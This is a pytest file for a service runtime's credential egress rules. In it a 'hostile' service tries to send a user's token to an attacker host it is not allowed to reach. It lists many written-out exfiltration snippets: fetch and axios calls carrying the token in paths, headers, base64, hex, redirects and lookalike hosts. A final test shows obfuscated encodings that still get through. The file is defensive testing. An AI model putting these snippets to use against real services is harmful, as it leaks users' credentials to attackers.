"""A hostile service holds a user's token for itself, and wants it at a host that the token may not go to."""

from __future__ import annotations

import base64
from collections.abc import AsyncIterator
from typing import Any

import pytest

from libs.common.egress import Rule
from libs.logic.errors import LogicError
from tests.runtime.conftest import Execute
from tests.runtime.deputy import SPEND
from tests.runtime.provider import Provider
from tests.runtime.world import World

TOKEN = 'tok/en+of=ann"é'
HOSTS = ("api.example.com", "*.example.org")


@pytest.fixture
async def attacker() -> AsyncIterator[Provider]:
    """A host that is none of the token's, but for what the test says."""
    provider = Provider()
    await provider.start()
    yield provider
    await provider.close()


@pytest.fixture
def hostile(world: World) -> str:
    service = world.add_service("hostile", platform="globex", public=True)
    world.add_credential("ann", service, TOKEN, hosts=HOSTS)
    return service


def post(**members: Any) -> dict[str, Any]:
    return {"@type": "http", "method": "POST", "auth": "none", **members}


def script(text: str) -> dict[str, Any]:
    return {"@type": "script", "script": text}


SCRIPTS = {
    "a path": "fetch(to + '/' + encodeURIComponent(token))",
    "a part of a path": "fetch(to + '/x;' + encodeURIComponent(token) + '/y')",
    "axios, data": "$.axios.post(to, {t: token})",
    "axios, params": "$.axios.get(to, {params: {t: token}})",
    "axios, headers": "$.axios.get(to, {headers: {t: encodeURIComponent(token)}})",
    "axios, auth": "$.axios.get(to, {auth: {username: 'x', password: token}})",
    "fetch, a form": "fetch(to, {method: 'POST', body: new URLSearchParams({t: token}).toString()})",
    "fetch, JSON": "fetch(to, {method: 'POST', body: JSON.stringify({[token]: 1})})",
    "base64": "fetch(to, {method: 'POST', body: btoa(bytes)})",
    "base64, inside": "fetch(to, {method: 'POST', body: btoa('ab' + bytes + 'c')})",
    "base64, in a URL": "fetch(to + '?' + btoa(bytes).replace(/\\+/g, '-').replace(/\\//g, '_'))",
    "base64, in a header's name": "fetch(to, {headers: {['x-' + btoa(bytes).replace(/=/g, '')]: 'x'}})",
    "hexadecimal digits": "fetch(to, {method: 'POST', body: hex})",
    "many at once": "Promise.all([1, 2, 3].map(() => fetch(to, {method: 'POST', body: token})))",
    "after a failure": "fetch(to, {method: 'POST', body: token}).catch(() => fetch(to + '?' + token))",
}
WRITTEN = """
const token = service.token, bytes = unescape(encodeURIComponent(token));
const hex = [...bytes].map((sign) => sign.charCodeAt(0).toString(16).padStart(2, '0')).join('');
"""


def nodes(url: str) -> dict[str, Any]:
    written = {way: script(f"const to = {url!r};{WRITTEN}await {sent}; return 1") for way, sent in SCRIPTS.items()}
    return written | {
        "as the security says": post(url=url, auth=None),
        "a header": post(url=url, headers={"X-Token": script("return encodeURIComponent(service.token)")}),
        "a query": post(url=url, query={"t": SPEND}),
        "JSON": post(url=url, json={"deep": [{"t": SPEND}]}),
        "a name in JSON": post(url=url, json=script("return {[service.token]: 1}")),
        "a form": post(url=url, form={"t": SPEND}),
        "text": post(url=url, text=SPEND),
        "a body": post(url=url, body=SPEND, headers={"Content-Type": "text/xml"}),
        "an idempotency key": post(url=url, idempotencyKey=script("return encodeURIComponent(service.token)")),
        "in a loop": {"@type": "repeat", "times": 2, "do": post(url=url, text=SPEND)},
        "from a nested action": {"@type": "action", "service": "hostile", "action": "send", "input": {"t": SPEND}},
    }


@pytest.mark.parametrize("way", nodes(""))
async def test_the_token_goes_nowhere_else(
    execute: Execute, world: World, hostile: str, attacker: Provider, denied: list[Rule], way: str
) -> None:
    data = {"@type": "reference", "operation": "source", "path": ["t"]}
    world.add_action(hostile, "send", post(url=attacker.url, json=data))
    world.add_action(hostile, "leak", nodes(attacker.url)[way])
    with pytest.raises(LogicError) as refused:
        await execute("hostile", "leak")
    assert attacker.seen == []
    assert set(denied) == {Rule.CREDENTIAL}
    error = refused.value
    assert (error.code, error.details["rule"]) == ("egress_denied", "apply.hosts")
    assert error.message.startswith(
        "The credential may only be sent to api.example.com, *.example.org, not to 127.0.0.1"
    )
    assert "add the host to 'apply.hosts'" in error.message
    assert TOKEN not in f"{error.message} {error.details}"


@pytest.mark.parametrize(
    "hosts",
    [
        None,
        (),
        ("*",),
        ("127.0.0.1:80",),
        ("http://127.0.0.1",),
        ("127.0.0.1#.example.com",),
        ("127.0.0.1.",),
        ("*.127.0.0.1",),
        ("*.0.0.1.example.com",),
        ("0.0.1",),
        ("LOCALHOST",),
    ],
)
async def test_odd_hosts_are_no_hosts(
    execute: Execute, world: World, attacker: Provider, hosts: tuple[str, ...] | None
) -> None:
    """Those that its author wrote, should they have come so far; none at all is for unpublished services."""
    service = world.add_service("hostile", platform="globex", public=True)
    world.add_credential("ann", service, TOKEN, hosts=hosts)
    world.add_action(service, "leak", post(url=attacker.url, auth=None))
    with pytest.raises(LogicError) as refused:
        await execute("hostile", "leak")
    assert refused.value.code == "egress_denied"
    assert attacker.seen == []


async def test_a_request_to_anothers_host_carries_the_own_token_alone(
    execute: Execute, world: World, provider: Provider
) -> None:
    """The hostile service lists bank's host among its own, and asks it as itself."""
    bank = world.add_service("bank", platform="bigcorp", public=True)
    world.add_credential("ann", bank, "bank-token-of-ann", hosts=("127.0.0.1",))
    service = world.add_service("hostile", platform="globex", public=True)
    world.add_action(service, "ask", post(url=provider.url, auth=None))
    with pytest.raises(LogicError, match="no credential for 'hostile'") as refused:
        await execute("hostile", "ask")
    assert refused.value.code == "credential_required"
    world.add_credential("ann", service, "token-of-ann", hosts=("127.0.0.1",))
    world.add_action(service, "as itself", post(url=provider.url, auth=None))
    await execute("hostile", "as itself", user="ann", credential_id=world.credentials[-1][2].id)
    [seen] = provider.seen
    assert seen.headers["authorization"] == "Bearer token-of-ann"
    assert "bank-token" not in str(seen)


async def test_a_service_that_is_not_published_may_leave_it_open(
    execute: Execute, world: World, attacker: Provider
) -> None:
    service = world.add_service("mine")
    world.add_credential("ann", service, "token-of-ann")
    world.add_action(service, "me", post(url=attacker.url, auth=None))
    assert (await execute("mine", "me"))["body"]["authorization"] == "Bearer token-of-ann"


@pytest.mark.parametrize("url", ["http://api.example.com.evil.test/", "http://xexample.org/", "http://example.org/"])
async def test_a_host_that_only_looks_like_one_of_them_is_another(
    execute: Execute, world: World, hostile: str, url: str
) -> None:
    world.add_action(hostile, "leak", post(url=url, auth=None))
    with pytest.raises(LogicError) as refused:
        await execute("hostile", "leak")
    assert refused.value.details["rule"] == "apply.hosts"


async def test_the_parts_of_a_basic_credential_stay_at_home(execute: Execute, world: World, attacker: Provider) -> None:
    service = world.add_service("hostile", platform="globex", public=True)
    part = "atob(service.token).split(':').find((part) => part.length > 3)"
    text = f"return (await fetch({attacker.url!r}, {{method: 'POST', body: {part}}})).status"
    world.add_action(service, "leak", script(text))
    for pair in ("ann:pass-word-of-ann", "api-key-of-ann:"):
        id = world.add_credential("ann", service, base64.b64encode(pair.encode()).decode(), scheme="Basic", hosts=HOSTS)
        with pytest.raises(LogicError) as refused:
            await execute("hostile", "leak", credential_id=id)
        assert refused.value.details["rule"] == "apply.hosts"
    assert attacker.seen == []


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_a_redirect_takes_no_token_from_an_allowed_host(
    execute: Execute, world: World, provider: Provider, attacker: Provider, status: int
) -> None:
    """The attacker's host is another port here, and a name that is not allowed in the next test."""
    service = world.add_service("hostile", platform="globex", public=True)
    world.add_credential("ann", service, "token-of-ann", hosts=("127.0.0.1",))
    provider.location, provider.redirect_status = f"{attacker.url}/landed", status
    world.add_action(service, "me", post(url=f"{provider.url}/redirect", auth=None, headers={"X-Own": SPEND}))
    await execute("hostile", "me")
    assert provider.seen[0].headers["authorization"] == "Bearer token-of-ann"
    [landed] = attacker.seen
    assert "token-of-ann" not in str(landed)


@pytest.mark.parametrize(
    "members",
    [
        {"text": "token-of-ann"},
        {"json": {"t": SPEND}},
        {"form": {"t": SPEND}},
    ],
)
async def test_a_redirect_carries_no_body_with_a_token_to_a_host_that_may_not_have_it(
    execute: Execute, world: World, provider: Provider, attacker: Provider, members: dict[str, Any]
) -> None:
    service = world.add_service("hostile", platform="globex", public=True)
    world.add_credential("ann", service, "token-of-ann", hosts=("127.0.0.1",))
    provider.location, provider.redirect_status = attacker.url.replace("127.0.0.1", "localhost"), 307
    world.add_action(service, "me", post(url=f"{provider.url}/redirect", auth=None, **members))
    with pytest.raises(LogicError) as refused:
        await execute("hostile", "me")
    assert refused.value.details["rule"] == "apply.hosts"
    assert "not to localhost" in refused.value.message
    assert attacker.seen == []


async def test_a_location_with_the_token_in_it_is_not_followed(
    execute: Execute, world: World, provider: Provider, attacker: Provider
) -> None:
    """As an open redirect of the provider's would make it."""
    service = world.add_service("hostile", platform="globex", public=True)
    world.add_credential("ann", service, "token-of-ann", query={"key": "token-of-ann"}, hosts=("127.0.0.1",))
    provider.location = f"{attacker.url.replace('127.0.0.1', 'localhost')}/?key=token-of-ann"
    world.add_action(service, "me", post(url=f"{provider.url}/redirect", auth=None))
    with pytest.raises(LogicError) as refused:
        await execute("hostile", "me")
    assert refused.value.details["rule"] == "apply.hosts"
    assert "token-of-ann" not in str(refused.value.details) + refused.value.message
    assert attacker.seen == []


async def test_what_a_nested_service_was_given_stays_at_home_too(
    execute: Execute, world: World, attacker: Provider
) -> None:
    """The user named its credential for bank, whose author is careless: it answers the token to its caller."""
    bank = world.add_service("bank", platform="bigcorp", public=True)
    id = world.add_credential("ann", bank, "bank-token-of-ann", hosts=("bank.example.com",))
    world.add_action(bank, "careless", SPEND)
    hostile = world.add_service("hostile", platform="globex", public=True)
    careless = {"@type": "action", "service": "bank", "action": "careless"}
    world.add_action(hostile, "steal", post(url=attacker.url, json={"t": careless}))
    with pytest.raises(LogicError) as refused:
        await execute("hostile", "steal", credentials={"bank": id})
    assert refused.value.details["rule"] == "apply.hosts"
    assert attacker.seen == []


@pytest.mark.parametrize(
    "hidden",
    [
        "[...service.token].reverse().join('')",
        "[...service.token].map((c) => c.charCodeAt(0) + 1).join(' ')",
        "service.token.slice(0, 7) + ' ' + service.token.slice(7)",
    ],
)
async def test_what_an_author_hides_on_purpose_is_not_found(
    execute: Execute, world: World, hostile: str, attacker: Provider, hidden: str
) -> None:
    """The limit: whoever may run code on a token can write it in a way that nobody knows.

    So a token is only as safe as the service that it was connected for; no other service is ever given it.
    """
    text = f"return (await fetch({attacker.url!r}, {{method: 'POST', body: {hidden}}})).status"
    world.add_action(hostile, "leak", script(text))
    assert await execute("hostile", "leak") == 200
    assert len(attacker.seen) == 1
